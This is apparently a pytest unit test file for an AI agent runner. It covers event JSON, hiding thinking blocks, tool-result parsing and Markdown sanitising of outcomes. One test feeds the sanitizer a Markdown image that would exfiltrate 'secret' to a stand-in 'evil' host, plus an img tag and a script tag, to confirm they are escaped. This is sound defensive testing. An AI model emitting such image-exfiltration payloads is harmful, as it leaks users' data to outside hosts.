"""Events, messages, outcomes and calls that the API runs: as JSON, as text and as Markdown."""

import json
from itertools import pairwise
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import TypeAdapter

from run_specialist.record.events import BudgetSpent, Called, Finished, Replied, Started
from run_specialist.record.messages import (
    Message,
    Reply,
    Stop,
    ToolResult,
    Usage,
    counted,
    searches,
    sendable,
    server_calls,
    text_of,
)
from run_specialist.record.outcome import Evidence, FileChange, Outcome, harmless, merged_changes
from tests.plugins.tiers import examples
from tests.unit.record.outcomes import outcome


def test_an_event_as_json_has_all_fields_and_the_name_first():
    """Nested values are objects too."""
    event = Replied(3, "answered", "", "words", Usage(1, 2, 3, 4), 0.5)
    printed = event.as_json()
    assert next(iter(printed)) == "event"
    assert printed == {
        "event": "reply",
        "turn": 3,
        "stop": "answered",
        "reason": "",
        "text": "words",
        "usage": {
            "input_tokens": 1,
            "cache_read_input_tokens": 2,
            "cache_creation_input_tokens": 3,
            "output_tokens": 4,
            "web_search_requests": 0,
        },
        "cost_usd": 0.5,
    }
    assert BudgetSpent("tool_calls", 3, 1, 2, "silent").as_json()["remaining"] == 2


def test_a_listener_may_change_the_json_of_an_event():
    """The arguments of a call and the limits stay as they are, because the run continues with them."""
    arguments, limits = {"paths": ["a.md"]}, {"turns": 3.0}
    Called("started", "toolu_1", "read", arguments).as_json()["arguments"]["paths"].append("b.md")
    Started("run", "finder", "sonnet", "Why?", (), limits).as_json()["limits"].clear()
    assert arguments == {"paths": ["a.md"]}
    assert limits == {"turns": 3.0}


THINKING = {"type": "thinking", "thinking": "secret", "signature": "s"}
REDACTED = {"type": "redacted_thinking", "data": "secret"}


def text(words):
    """Return a text block."""
    return {"type": "text", "text": words}


def test_s1_6_text_is_found_by_type_and_never_by_position():
    """Text is found by type in any position."""
    assert text_of([THINKING, text("a")]) == "a"
    assert text_of([text("a"), THINKING, REDACTED, text("b")]) == "a\nb"
    assert text_of("plain") == "plain"
    assert text_of([SimpleNamespace(type="text", text="object"), "string"]) == "object\nstring"
    assert text_of([SimpleNamespace(type="thinking", thinking="secret", text=None)]) == ""
    assert text_of(None) == text_of(7) == text_of([]) == ""


blocks = st.lists(
    st.sampled_from(
        [THINKING, REDACTED, text("public"), {"type": "tool_use", "input": {"q": "secret"}}, {}, {"type": "text"}]
    )
)


@given(blocks)
def test_s1_6_thinking_never_leaks(content):
    """Thinking is never returned as text, whatever the order of the blocks."""
    assert "secret" not in text_of(content)
    assert Reply(Stop.ANSWERED, tuple(content)).text.count("public") == content.count(text("public"))


@given(st.text(), st.text(min_size=1))
def test_an_instruction_is_appended_inside_the_last_text(content, words):
    """An instruction is appended inside the last result, or to the question if there is no result."""
    message = Message.results([ToolResult("1", "first"), ToolResult("2", content)])
    assert message.with_instruction(None) is message
    first, last = message.with_instruction(words).content
    assert (first["content"], last["content"]) == ("first", f"{content}\n{words}")
    assert Message.user("q?").with_instruction(words).content[0]["text"] == f"q?\n{words}"


@given(st.text(alphabet=st.characters()))
def test_any_tool_result_can_be_encoded(content):
    """Lone surrogates and control characters in a tool's result do not break the request."""
    encoded = Message.results([ToolResult("1", content)]).encoded
    assert json.loads(encoded)["content"][0]["tool_use_id"] == "1"


def test_x_9_blocks_are_sent_back_unchanged_unless_the_api_refuses_them():
    """Blocks are sent back unchanged except for content that the API refuses."""
    broken = {"type": "tool_use", "id": "1", "name": "look", "input": "oops"}
    sent = sendable((THINKING, text(" "), REDACTED, broken))
    assert sent[0] is THINKING
    assert sent[1] is REDACTED
    assert sent[2] == {**broken, "input": {}}


PIECES = [
    *(
        "<img src=x>",
        "![x](http://x)",
        "<b",
        "\n",
        "    ",
        "```",
        "`",
        "<!-- ",
        "-->",
        "![",
        "](x)",
        "[",
        "- ",
        "> ",
        "word ",
    )
]


def unsafe(markdown):
    """Return the kinds of tokens that would load or embed something."""
    blocks = MarkdownIt().parse(markdown)
    kinds = {token.type for block in blocks for token in (block, *(block.children or ()))}
    return kinds & {"html_block", "html_inline", "image"}


def test_an_outcome_shows_answer_quotes_gaps_and_warnings():
    """The Markdown has the answer as it is, each quote with its mark and place, the gaps and a line about the run."""
    quotes = (Evidence("a.md:3", "Owls eat\nmice.", True), Evidence("b.md", "Bats.", False), Evidence("c", "X", None))
    text = outcome(answer="**Mice**", evidence=quotes, gaps=("toads",), warnings=("slow",))._repr_markdown_()
    assert text.startswith(
        "**Mice**\n\n✓ `a.md:3`\n\n> Owls eat\n> mice.\n\n✗ not found in what was read: `b.md`\n\n> Bats."
    )
    assert "\n\n- `c`\n\n> X\n\n- not found: toads\n\n" in text
    assert text.endswith("- *owls: landed, 3 tool calls, haiku*\n- *slow*\n")


def test_a_printed_outcome_is_its_answer():
    """Notebooks do not repeat a quote that the answer has; `repr` fits on a line."""
    quote = Evidence("a.md:3", "Owls eat\nmice.", True)
    shown = outcome(answer='They say:\n\n> "Owls eat\n> mice." — a.md:3' + " x" * 90, evidence=(quote,))
    assert str(shown) == shown.answer
    assert len(repr(shown)) < 150
    assert shown._repr_markdown_().count("mice.") == 1
    assert str(outcome(answer="")) == repr(outcome(answer=""))


@pytest.mark.parametrize(
    "text", ["```c\n#include <stdio.h>\n```\n", "a < b, `List<int>`, [x](http://x) <http://x>\n", "Wow! [x]"]
)
def test_text_without_html_or_images_is_unchanged(text):
    """Code, comparisons and links stay byte for byte."""
    assert harmless(text) == text


def test_html_and_images_are_shown_as_text():
    """An image that would send what was read, and a script, are escaped in the whole outcome."""
    evil = outcome(answer="![x](http://evil/?q=secret) <img src=http://evil>", gaps=("<script>alert()</script>",))
    assert unsafe(evil._repr_markdown_()) == set()
    assert "http://evil/?q=secret" in evil._repr_markdown_()


@given(st.lists(st.sampled_from(PIECES)).map("".join) | st.text())
def test_nothing_unsafe_remains(text):
    """Whatever the text, no HTML and no image is left."""
    assert unsafe(harmless(text)) == set()


def test_the_kind_of_failure_and_the_wait_survive_storing():
    """Kind and wait are in the JSON of the outcome and of the event `finished`, and are read back from it."""
    failed = outcome(status="failed", error="the API answered 429", error_kind="rate_limited", retry_after=7.5)
    stored = json.loads(json.dumps(Finished(failed).as_json()["outcome"]))
    assert (stored["error_kind"], stored["retry_after"]) == ("rate_limited", 7.5)
    again = TypeAdapter(Outcome).validate_python(stored)
    assert (again.error_kind, again.retry_after) == ("rate_limited", 7.5)


@given(st.lists(st.sampled_from([None, "a", "b"]), min_size=2, max_size=6))
def test_p_5_the_changes_of_a_file_are_one_from_its_first_state_to_its_last(states):
    """A file that did not exist before and does not exist after is not listed, however often it was changed."""
    steps = [states[0], *(now for before, now in pairwise(states) if now != before)]
    kinds = {(True, False): "created", (False, True): "removed", (False, False): "changed"}
    changes = [
        FileChange("x", kinds[before is None, now is None], 2, None if now == "b" else 1, undoable=True)
        for before, now in pairwise(steps)
    ]
    merged = merged_changes([FileChange("w", "removed", 0, 1, undoable=False), *changes])
    kind = kinds.get((steps[0] is None, steps[-1] is None)) if changes else None
    assert [(one.path, one.change) for one in merged] == [("w", "removed"), *([("x", kind)] if kind else [])]


def test_p_5_lines_are_added_up_and_unknown_ones_stay_unknown():
    """One change that cannot be undone makes the whole file one that cannot."""
    first = FileChange("x", "changed", 2, 1, undoable=True)
    assert merged_changes([first, first]) == (FileChange("x", "changed", 4, 2, undoable=True),)
    unknown = FileChange("x", "removed", None, 3, undoable=False)
    assert merged_changes([first, unknown]) == (FileChange("x", "removed", None, 4, undoable=False),)


# Blocks of tools that the API runs, read as calls and results; whatever a server sends is read without an error.
URL = "https://example.com"


def use(call_id="s1", name="web_search"):
    """Return a use."""
    return {"type": "server_tool_use", "id": call_id, "name": name, "input": {"query": "owls"}}


def found(call_id="s1", **fields):
    """Return the result of a search."""
    entry = {"type": "web_search_result", "title": "Owls", "url": URL, "encrypted_content": "secret", **fields}
    return {"type": "web_search_tool_result", "tool_use_id": call_id, "content": [entry]}


def failed(code, call_id="s1"):
    """Return a result that is an error."""
    return {"type": "web_search_tool_result", "tool_use_id": call_id, "content": {"error_code": code}}


def page(**document):
    """Return the result of reading a page."""
    content = {"type": "web_fetch_result", "url": URL, "content": {"type": "document", **document}}
    return {"type": "web_fetch_tool_result", "tool_use_id": "s1", "content": content}


def test_a_search_is_read_without_its_encrypted_content():
    """Title, address, age and the passages cited from this address can be read, each passage once."""
    places = [(URL, "Owls eat mice."), (URL, "Owls eat mice."), ("https://example.org", "Bats.")]
    cited = {"type": "text", "text": "Mice.", "citations": [{"url": url, "cited_text": text} for url, text in places]}
    (one,) = server_calls([use(), found(page_age="May 2026"), cited])
    assert (one.call.name, one.call.arguments) == ("web_search", {"query": "owls"})
    assert one.text == f"Owls\n{URL}\nMay 2026\nOwls eat mice."


def test_a_page_is_read_with_its_title():
    """Text is read as it is; another document is named by its type."""
    text = page(title="Notes", source={"type": "text", "media_type": "text/plain", "data": "Owls eat mice."})
    (one,) = server_calls([use(name="web_fetch"), text])
    assert one.text == f"{URL}:\nNotes\n\nOwls eat mice."
    pdf = page(source={"type": "base64", "media_type": "application/pdf", "data": "JVBERi0="})
    assert server_calls([pdf])[0].text == f"{URL}:\n\n(application/pdf that cannot be read here)"


def test_what_counts_and_what_is_billed():
    """A use counts when it is made, unless it is refused; a search is billed once it brings results."""
    content = [use("s1"), found("s1"), use("s2"), failed("unavailable", "s2"), use("s3"), use("s4")]
    content += [failed("max_uses_exceeded", "s4"), found("earlier")]
    assert (counted(content), searches(content)) == (3, 2)
    made = [(one.call.id, one.was_made_here, one.is_refused, one.error) for one in server_calls(content)]
    assert made == [
        ("s1", True, False, ""),
        ("s2", True, False, "unavailable"),
        ("s3", True, False, ""),
        ("s4", True, True, "max_uses_exceeded"),
        ("earlier", False, False, ""),
    ]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=3),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["type", "url", "title", "content", "source", "data", "error_code"]), inner)
    ),
    max_leaves=6,
)
KINDS = ["server_tool_use", "web_search_tool_result", "web_fetch_tool_result", "x_tool_result", "text"]
KEYS = ["id", "name", "input", "tool_use_id", "content", "citations"]
BLOCK = st.builds(
    lambda kind, values: {"text": "", **values, "type": kind},
    st.sampled_from(KINDS),
    st.dictionaries(st.sampled_from(KEYS), JSON, max_size=4),
)


@settings(max_examples=examples(25))
@given(st.lists(BLOCK, max_size=5))
def test_any_content_is_read(content):
    """Whatever a server sends in these blocks, reading it raises nothing and gives texts."""
    calls = server_calls(content)
    assert all(isinstance(one.text, str) and isinstance(one.error, str) for one in calls)
    assert 0 <= counted(content) <= len([block for block in content if block["type"] == "server_tool_use"])
    assert searches(content) <= len(calls)


def test_a_text_that_citations_have_split_is_one_text():
    """Parts with citations are joined as they are; other texts stand on lines of their own."""
    cited = {"type": "text", "text": "mice", "citations": [{"cited_text": "mice"}]}
    parts = [{"type": "text", "text": "Owls eat "}, cited, {"type": "text", "text": " and rest."}]
    assert text_of(parts) == "Owls eat mice and rest."
    assert Reply(Stop.ANSWERED, tuple(parts)).text == "Owls eat mice and rest."
    assert text_of([{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]) == "a\nb"
